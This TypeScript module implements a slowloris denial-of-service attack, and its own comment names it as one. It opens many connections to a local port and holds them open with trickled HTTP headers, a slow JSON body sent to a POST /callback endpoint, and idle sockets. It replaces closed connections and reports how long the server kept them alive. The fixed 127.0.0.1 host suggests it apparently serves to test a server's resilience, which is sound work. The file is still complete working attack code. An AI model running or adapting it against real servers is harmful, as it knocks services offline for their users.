import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

/**
 * Holds many connections open with as few bytes as possible, in three ways, and replaces each one that is closed. This attack is called
 * slowloris. The first argument has its settings as JSON. It prints its report as JSON.
 */
export interface SlowSocketsSettings {
  readonly port: number
  readonly sockets: number
  /** Time in which new connections are opened. */
  readonly seconds: number
  /** Time after that in which the open connections are held, unless the server closes them. */
  readonly holdSeconds: number
}

export interface SlowSocketsReport {
  readonly opened: number
  /** Number of connections that the server closed. */
  readonly closed: number
  /** Longest time that the server let a connection live. */
  readonly longestMs: number
  /** Number of connections that were still open at the end. */
  readonly left: number
}

const HEAD = 'POST /callback HTTP/1.1\r\nHost: slow\r\nContent-Type: application/json\r\n'
/** The bytes that each kind sends first and then every second. Each connection sends at its own moment of the second. */
const KINDS: readonly (readonly [first: string, then: string])[] = [
  [HEAD, 'X-A: b\r\n'],
  [`${HEAD}Content-Length: 1000\r\n\r\n{"object_ids":[1`, ',1'],
  ['', ''],
]
const MOMENTS = 50
/** Number of connections to open before other work gets a turn. */
const BURST = 50

if (import.meta.main) process.stdout.write(JSON.stringify(await attack(JSON.parse(process.argv[2] as string) as SlowSocketsSettings)))

async function attack({ port, sockets, seconds, holdSeconds }: SlowSocketsSettings): Promise<SlowSocketsReport> {
  const open = new Map<Socket, { readonly then: string; readonly moment: number }>()
  let [opened, closed, longestMs] = [0, 0, 0]
  const join = (): void => {
    const [first, then] = KINDS[opened % KINDS.length] as (typeof KINDS)[number]
    opened += 1
    const socket = connect({ port, host: '127.0.0.1' }).on('error', () => undefined)
    open.set(socket, { then, moment: opened % MOMENTS })
    let joinedAt = performance.now()
    socket.once('connect', () => {
      joinedAt = performance.now()
      socket.write(first)
    })
    // The socket reads what the server sends, because otherwise it would not notice the end.
    socket.resume().once('close', () => {
      open.delete(socket)
      closed += 1
      longestMs = Math.max(longestMs, performance.now() - joinedAt)
    })
  }
  let moment = 0
  const trickle = setInterval(() => {
    moment = (moment + 1) % MOMENTS
    for (const [socket, { then, moment: own }] of open) if (own === moment && then !== '' && socket.writable) socket.write(then)
  }, 1000 / MOMENTS)

  const started = performance.now()
  while (performance.now() - started < seconds * 1000) {
    for (let i = 0; i < BURST && open.size < sockets; i += 1) join()
    await sleep(5)
  }
  for (const until = performance.now() + holdSeconds * 1000; open.size > 0 && performance.now() < until; ) await sleep(50)
  clearInterval(trickle)
  const report = { opened, closed, longestMs, left: open.size }
  for (const socket of open.keys()) socket.destroy()
  return report
}
